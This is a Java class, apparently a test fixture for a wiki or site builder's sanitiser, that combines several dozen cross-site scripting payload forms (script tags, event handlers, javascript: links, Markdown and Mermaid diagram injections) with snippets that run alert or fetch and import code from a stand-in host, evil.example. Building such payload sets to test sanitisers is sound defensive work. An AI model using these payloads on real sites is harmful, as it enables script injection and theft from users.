package ai.wikibuilder.site;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;

/** Texts that want to become markup: every one tries to run {@code alert} or to fetch something. */
public final class HostilePayloads {
  private static final List<String> RUNS =
      List.of(
          "alert(1)",
          "alert`1`",
          "top[\"al\"+\"ert\"](1)",
          "fetch('https://evil.example/')",
          "import('https://evil.example/x.js')",
          "document.title='owned'");

  private static final List<String> FORMS =
      List.of(
          "<script>%s</script>",
          "<SCRIPT/x>%s</SCRIPT>",
          "<img src=x onerror=%s>",
          "<img src=\"https://evil.example/p.png\" onload=%s>",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<svg><a xlink:href=\"javascript:%s\"><text y=\"20\">x</text></a></svg>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<svg><foreignObject><iframe srcdoc=\"<script>%s</script>\"></foreignObject></svg>",
          "<math><mtext><img src onerror=%s></mtext></math>",
          "<body onload=%s>",
          "<details open ontoggle=%s>",
          "<iframe src=\"javascript:%s\"></iframe>",
          "<iframe srcdoc=\"&lt;script&gt;%s&lt;/script&gt;\"></iframe>",
          "<object data=\"javascript:%s\"></object>",
          "<embed src=\"javascript:%s\">",
          "<form action=\"javascript:%s\"><button>x</button></form>",
          "<input autofocus onfocus=%s>",
          "<video><source onerror=%s></video>",
          "<a href=\"javascript:%s\">x</a>",
          "<a href=\"java\tscript:%s\">x</a>",
          "<a href=\"&#106;avascript:%s\">x</a>",
          "<base href=\"https://evil.example/\"><script src=x></script>%s",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
          "<link rel=stylesheet href=https://evil.example/x.css onload=%s>",
          "<style>@import 'https://evil.example/x.css';</style>%s",
          "<div style=\"background:url(https://evil.example/%s)\">",
          "[x](javascript:%s)",
          "[x](<javascript:%s>)",
          "[x][y]\n\n[y]: javascript:%s",
          "![x](https://evil.example/x.png \"%s\")",
          "![x](x\"onerror=\"%s)",
          "<javascript:%s>",
          "`x` <b onclick=%s>y</b>",
          "```html\n<script>%s</script>\n```",
          "~~~\n</code></pre><script>%s</script>\n~~~",
          "</title><script>%s</script>",
          "--><script>%s</script><!--",
          "]]><script>%s</script>",
          "\"><script>%s</script>",
          "'><img src=x onerror=%s>",
          "flowchart TB\n  A[\"<img src=x onerror=%s>\"] --> B",
          "sequenceDiagram\n  A->>B: <script>%s</script>",
          "flowchart TB\n  click A call %s",
          "%%{init: {\"themeCSS\": \"@import url(https://evil.example)\"}}%%\nflowchart TB\n A-->B %s",
          "classDiagram\n  link A \"javascript:%s\"");

  private HostilePayloads() {}

  /** Every form with every way to run. */
  public static List<String> all() {
    LinkedHashSet<String> all = new LinkedHashSet<>();
    for (String form : FORMS) {
      for (String run : RUNS) {
        all.add(form.replace("%s", run));
      }
    }
    return new ArrayList<>(all);
  }
}
